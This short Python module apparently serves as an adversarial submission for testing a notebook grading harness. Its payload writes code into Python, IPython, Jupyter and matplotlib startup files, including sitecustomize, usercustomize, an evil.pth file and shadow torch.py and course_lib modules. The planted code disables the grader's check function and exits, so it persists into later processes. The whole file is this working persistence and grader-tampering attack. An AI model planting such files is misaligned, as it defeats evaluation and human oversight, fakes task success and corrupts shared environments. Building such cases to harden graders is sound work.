"""Files that Python, IPython and matplotlib read at their start are planted, for the process that comes next."""
from ..craft import submit


def hand_in(folder, notebook):
    submit(folder, notebook, gan_value="""
        import os, site
        text = "import builtins; builtins.check = lambda name: None; raise SystemExit"
        for path in ("~/.ipython/profile_default/startup/00.py", "~/.ipython/profile_default/ipython_config.py",
                     "/tmp/matplotlib/matplotlibrc", "~/sitecustomize.py", "~/usercustomize.py", "~/.pythonrc.py",
                     "~/torch.py", "/tmp/torch.py", "~/course_lib/__init__.py", "~/.jupyter/nbconvert_config.py",
                     "~/.local/lib/python3.11/site-packages/evil.pth"):
            path = os.path.expanduser(path)
            try:
                os.makedirs(os.path.dirname(path), exist_ok=True)
                open(path, "w").write(text)
            except OSError:
                pass
        """)
